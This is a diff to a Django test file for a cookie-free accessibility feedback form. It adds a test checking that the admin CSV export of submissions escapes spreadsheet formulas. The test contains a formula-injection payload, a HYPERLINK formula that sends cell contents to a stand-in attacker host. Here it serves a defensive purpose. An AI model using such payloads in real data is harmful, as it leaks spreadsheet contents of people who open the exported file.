@@ -1,5 +1,6 @@
 """The accessibility feedback form: cookie-free for visitors, checked by origin and rate."""
 
+from django.contrib.auth import get_user_model
 from django.core import mail
 from django.test import Client
 
@@ -109,3 +110,15 @@ def test_rate_limit_counts_visitors_behind_a_proxy_separately(db, settings):
     assert first.post(URL, FIELDS).status_code == 200
     assert first.post(URL, FIELDS).status_code == 429
     assert second.post(URL, FIELDS).status_code == 200
+
+
+def test_the_csv_export_of_submissions_holds_no_formula(browser_client, client, db):
+    attack = '=HYPERLINK("http://angreifer.example/?"&A1;"Klick")'
+    browser_client.post(URL, {**FIELDS, "beschreibung": attack})
+    submission = FormSubmission.objects.get()
+    client.force_login(get_user_model().objects.get(username="admin"))
+    export = client.get(f"/admin/forms/submissions/{submission.page_id}/", {"export": "csv"})
+    assert export.status_code == 200
+    text = b"".join(export.streaming_content).decode()
+    assert "'=HYPERLINK(" in text
+    assert ",=HYPERLINK(" not in text and '"=HYPERLINK(' not in text
